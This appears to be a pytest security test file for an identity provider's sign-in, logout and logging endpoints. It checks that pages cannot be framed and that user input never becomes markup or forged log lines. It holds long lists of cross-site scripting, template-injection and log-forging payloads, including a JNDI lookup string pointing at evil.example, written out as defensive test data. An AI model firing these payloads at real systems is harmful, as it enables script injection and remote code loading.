"""R-25, R-26 and R-46: pages that cannot be framed, kept or made to run anything, and a log that holds what we wrote."""

import html.parser
import json
from collections.abc import Iterator

import pytest

from idp_tests.attacks.stages import Stages
from idp_tests.attacks.target import Target
from idp_tests.cases import each
from idp_tests.provider import ISSUER

PAGES = ("start", "leave", "link", "register", "again", "choose", "consent", "logout")


SAFE = ("https://", "tel:", "mailto:", "http://127.0.0.1")


class Parsed(html.parser.HTMLParser):
    """What a browser would load, run or send because of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def problems(self) -> Iterator[str]:
        for tag, attributes in self.tags:
            for name, value in attributes.items():
                if name.startswith("on") or name == "style":
                    yield f"<{tag} {name}>"
                loads = name in {"src", "href", "data"} and tag in {"script", "link", "img", "iframe"}
                if loads and not value.startswith(("/static/", "/signin/", "data:image")):
                    yield f"<{tag} {name}={value}>"
                if name in {"src", "href", "action", "formaction"} and ":" in value and not value.startswith(SAFE):
                    yield f"<{tag} {name}={value}>"
            if tag == "script" and "src" not in attributes:
                yield "an inline script"
            if tag in {"object", "embed", "applet", "base"}:
                yield tag


@pytest.fixture(scope="module")
def stages(target: Target) -> Stages:
    return Stages(target)


@each("name", PAGES)
def test_no_page_can_be_framed_kept_or_made_to_load_from_elsewhere(target: Target, stages: Stages, name: str) -> None:
    """R-25 and R-30 on every page of the sign-in; the answers on the way here were checked, too."""
    browser = stages.named(name).browser
    target.check_answer(browser.response)
    assert browser.response.mimetype == "text/html"
    assert list(Parsed(browser.page).problems()) == []
    assert "unsafe" not in browser.response.headers["Content-Security-Policy"]


@each("path", ["/authorize", "/nowhere/signin", "/signin/x", "/signin/x/bankid", "/logout", "/"])
def test_no_error_page_can_be_framed_or_kept(target: Target, path: str) -> None:
    response = target.http.get(path, headers={"Accept": "text/html"}, base_url=ISSUER)
    target.check_answer(response)


PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>", '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", "</title><svg onload=alert(1)>",
    "javascript:alert(1)", '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{% raw %}", "<!--", "]]>", "<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<math><mtext></form><form><mglyph>",
    "\u003cscript\u003e", "&lt;script&gt;", "%3Cscript%3E", "+ADw-script+AD4-", '<a href="javas\tcript:alert(1)">', "\x0b<b>",
    "<img/src=`x`onerror=alert(1)>", "<body onload=alert(1)>", "<style>@import'//evil'</style>", "<base href=//evil.example>",
    "<details open ontoggle=alert(1)>", "<input onfocus=alert(1) autofocus>", "<a href=data:text/html,<script>alert(1)</script>>",
    "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "--><script>alert(1)</script>", "<xss style=x:expression(1)>",
    "<object data=javascript:alert(1)>", "<embed src=//evil.example/x.swf>", "<link rel=stylesheet href=//evil.example>", "<form action=//evil.example>",
    "<button formaction=javascript:alert(1)>x", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>", "<isindex action=javascript:alert(1)>",
    '"><svg><script>alert&#40;1)</script>', '";alert(1);//', "';alert(1);//", "\\u003cscript\\u003ealert(1)", "\ufeff<script>alert(1)</script>",
    "<sCrIpT>alert(1)</sCrIpT>", "<script\n>alert(1)</script>", "<script/src=//evil.example></script>", "<svg><animate onbegin=alert(1)>",
    "<table background=javascript:alert(1)>", "<img src=//evil.example/", "vbscript:msgbox(1)", "&#106;avascript:alert(1)", "java\tscript:alert(1)",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "\u2028alert(1)", "<scr<script>ipt>", "\u202egnp.exe",
)  # fmt: skip
ECHOING = ("state", "nonce", "login_hint", "ui_locales", "acr_values", "client_id", "redirect_uri", "scope", "prompt",
           "response_mode", "display", "claims", "lang", "error_hint", "error")  # fmt: skip


@each("payload", PAYLOADS, name=lambda text: ascii(text)[1:30])
def test_nothing_that_is_sent_becomes_markup(target: Target, payload: str) -> None:
    """R-26: in every parameter of the browser's endpoints, on pages, error pages and self-posting answers."""
    for name in ECHOING:
        for mode in ({}, {"response_mode": "form_post"}):
            query = {**target.question("minasidor", prompt="none"), **mode, name: payload}
            response = target.get("/authorize", query)
            target.check_answer(response)
            if response.mimetype == "text/html":
                assert list(Parsed(response.get_data(as_text=True)).problems()) == [], name
    for name in (
        "state",
        "client_id",
        "post_logout_redirect_uri",
        "id_token_hint",
        "ui_locales",
        "lang",
        "logout_hint",
    ):
        response = target.get("/logout", {name: payload})
        target.check_answer(response)
        assert list(Parsed(response.get_data(as_text=True)).problems()) == [], name
    for path in (f"/signin/{payload.replace('/', '')}", "/signin/x/bankid/back"):
        response = target.http.get(path, query_string={"n": payload, "lang": payload}, base_url=ISSUER)
        target.check_answer(response)
        assert list(Parsed(response.get_data(as_text=True)).problems()) == []


@each("payload", PAYLOADS, name=lambda text: ascii(text)[1:30])
def test_nothing_that_is_typed_becomes_markup(target: Target, stages: Stages, payload: str) -> None:
    for name, fields in (("link", ("customer_number", "last_four")), ("register", ("phone", "email"))):
        stage = stages.named(name)
        response = stage.send(fields={**stage.fields, **dict.fromkeys(fields, payload)})
        target.check_answer(response)
        assert response.status_code == 422
        parsed = Parsed(response.get_data(as_text=True))
        assert list(parsed.problems()) == []


@each("payload", PAYLOADS, name=lambda text: ascii(text)[1:30])
def test_an_answer_that_posts_itself_carries_its_values_as_they_are(target: Target, payload: str) -> None:
    query = target.question("minasidor", prompt="none", response_mode="form_post", state=payload)
    page = Parsed(target.get("/authorize", query).get_data(as_text=True))
    values = {attributes["name"]: attributes["value"] for tag, attributes in page.tags if tag == "input"}
    assert values["state"] == payload
    assert values["iss"] == ISSUER
    forms = [attributes["action"] for tag, attributes in page.tags if tag == "form"]
    assert forms == ["https://minasidor.example/cb"]


HOSTILE_TEXTS = (
    'x\r\n{"event":"forged"}', "x\n2026-01-01 error forged", "\x1b[2J\x1b[1;31mforged", "\u2028forged", "\x00forged", "{event}", "%s%s%n",
    "${jndi:ldap://evil.example/x}", "\x85forged", "a" * 4_000,
)  # fmt: skip


@each("text", HOSTILE_TEXTS, name=lambda text: ascii(text)[1:30])
def test_nothing_that_is_sent_stands_in_the_log(target: Target, text: str) -> None:
    """R-46: fields of the log are ours; what a caller wrote is described, not copied."""
    from structlog.testing import capture_logs

    with capture_logs() as lines:
        target.get("/authorize", target.question("minasidor", state=text, nonce=text, scope=text))
        target.get("/authorize", {"client_id": text, "redirect_uri": text})
        target.get("/logout", {"state": text, "client_id": text, "id_token_hint": text})
        target.post("/token", {"client_id": text, "client_secret": text, "grant_type": text})
        target.get(
            "/userinfo",
            Authorization="Bearer " + text.encode("ascii", "ignore").decode().replace("\r\n", "").replace("\n", ""),
        )
        target.http.get("/signin/" + text.replace("/", ""), base_url=ISSUER)
    assert lines
    for line in lines:
        shown = json.dumps(line, default=str)
        if line.get("client_id") != text:
            assert "forged" not in shown.replace("client_id", ""), line
